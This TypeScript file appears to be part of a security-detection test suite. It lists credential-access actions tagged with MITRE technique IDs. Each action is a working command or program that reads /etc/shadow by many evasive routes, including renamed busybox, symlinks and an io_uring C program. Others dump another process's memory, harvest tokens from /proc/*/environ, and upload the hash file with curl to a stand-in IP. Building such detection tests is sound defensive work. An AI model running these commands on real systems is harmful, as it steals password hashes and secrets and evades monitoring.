import type { Action } from '../../action.ts'
import { received, sleepingVictim, webServer } from '../../loopback-server.ts'

const readInC = (path: string) => `
#include <fcntl.h>
#include <unistd.h>
int main() { char b[4096]; int f = open("${path}", O_RDONLY); return write(1, b, read(f, b, 4096)) < 1; }`

const byRing = `
#include <fcntl.h>
#include <string.h>
#include <stdio.h>
#include <stdint.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>
#include <linux/io_uring.h>
int main() {
  struct io_uring_params p;
  memset(&p, 0, sizeof p);
  int r = syscall(425, 4, &p);
  if (r < 0) return 1;
  char *sq = mmap(0, p.sq_off.array + 4 * p.sq_entries, 3, MAP_SHARED, r, 0);
  char *cq = mmap(0, p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe), 3, MAP_SHARED, r, 0x8000000);
  struct io_uring_sqe *e = mmap(0, p.sq_entries * sizeof *e, 3, MAP_SHARED, r, 0x10000000);
  memset(e, 0, sizeof *e);
  e->opcode = IORING_OP_OPENAT;
  e->fd = AT_FDCWD;
  e->addr = (uint64_t)"/etc/shadow";
  ((unsigned *)(sq + p.sq_off.array))[0] = 0;
  *(unsigned *)(sq + p.sq_off.tail) = 1;
  syscall(426, r, 1, 1, 1, 0, 0);
  int f = ((struct io_uring_cqe *)(cq + p.cq_off.cqes))->res;
  char b[4096];
  return write(1, b, read(f, b, 4096)) < 1;
}`

const hashes = 'grep -q ann: $OUT'
/** Password hashes, and the memory of processes. */
export const systemSecrets: readonly Action[] = [
  {
    id: 'hashes-cat',
    title: 'Password hashes read by cat',
    technique: 'T1003.008',
    run: 'cat /etc/shadow',
    effect: hashes,
  },
  {
    id: 'hashes-builtin',
    title: 'Password hashes read by the shell itself',
    technique: 'T1003.008',
    run: 'while read -r line; do echo "$line"; done </etc/shadow',
    effect: hashes,
  },
  {
    id: 'hashes-python',
    title: 'Password hashes read by a Python program',
    technique: 'T1003.008',
    program: { language: 'python', text: 'print(open("/etc/shadow").read())' },
    run: 'python3 $PROGRAM',
    effect: hashes,
  },
  {
    id: 'hashes-c',
    title: 'Password hashes read by a compiled program',
    technique: 'T1003.008',
    program: { language: 'c', text: readInC('/etc/shadow') },
    run: '$PROGRAM',
    effect: hashes,
  },
  {
    id: 'hashes-busybox',
    title: 'Password hashes read by a renamed busybox',
    technique: 'T1003.008',
    shell: 'busybox',
    run: 'cp /home/ann/busybox /tmp/cat; cd /etc; /tmp/cat shadow',
    effect: hashes,
  },
  {
    id: 'hashes-ring',
    title: 'Password hashes opened by io_uring',
    technique: 'T1003.008',
    program: { language: 'c', text: byRing },
    run: '$PROGRAM',
    effect: hashes,
  },
  {
    id: 'hashes-copied',
    title: 'Password hashes copied',
    technique: 'T1003.008',
    run: 'cp /etc/shadow /tmp/s; cat /tmp/s',
    effect: hashes,
  },
  {
    id: 'hashes-linked',
    title: 'Password hashes read through a link',
    technique: 'T1003.008',
    run: 'ln -s /etc/shadow /tmp/s; tail -n 3 /tmp/s',
    effect: hashes,
  },
  {
    id: 'hashes-packed',
    title: 'Password hashes packed with other files',
    technique: 'T1003.008',
    run: 'tar -C / -cf /tmp/s.tar etc/passwd etc/shadow; tar -xOf /tmp/s.tar etc/shadow',
    effect: hashes,
  },
  {
    id: 'hashes-of-root-folder',
    title: 'Password hashes read through the root of a process',
    technique: 'T1003.008',
    run: 'cat /proc/self/root/etc/shadow',
    effect: hashes,
  },
  {
    id: 'memory-gcore',
    title: 'Memory of a process dumped by gcore',
    technique: 'T1003.007',
    needs: ['gcore'],
    before: sleepingVictim,
    run: 'gcore -o /tmp/core $(cat /run/victim)',
    effect: 'ls /tmp/core.*',
  },
  {
    id: 'memory-python',
    title: 'Memory of a process read by a Python program',
    technique: 'T1003.007',
    before: sleepingVictim,
    program: {
      language: 'python',
      text: 'import re, sys\np = sys.argv[1]\nm = re.search(r"(\\w+)-(\\w+) rw.*stack", open("/proc/%s/maps" % p).read())\nf = open("/proc/%s/mem" % p, "rb", 0); f.seek(int(m[1], 16)); print(len(f.read(4096)))',
    },
    run: 'python3 $PROGRAM $(cat /run/victim)',
    effect: 'grep -q 4096 $OUT',
  },
  {
    id: 'memory-dd',
    title: 'Memory of a process read by dd',
    technique: 'T1003.007',
    before: sleepingVictim,
    run: `read -r pid </run/victim
at=$(sed -n '/stack/s/-.*//p' /proc/$pid/maps)
dd if=/proc/$pid/mem bs=4096 count=1 skip=$((0x$at / 4096)) of=/tmp/m`,
    effect: '[ -s /tmp/m ]',
  },
  {
    id: 'environment-of-others',
    title: 'Environment of other processes read',
    technique: 'T1003.007',
    before: `TOKEN=secret ${sleepingVictim}`,
    run: 'cat /proc/*/environ | tr "\\0" "\\n" | grep TOKEN',
    effect: 'grep -q secret $OUT',
  },
  {
    id: 'credentials-sent',
    title: 'Password hashes sent by curl',
    technique: 'T1003.008',
    needs: ['curl'],
    before: webServer(80),
    run: 'curl -s -F f=@/etc/shadow http://198.51.100.7/u',
    effect: received('ann:'),
  },
]
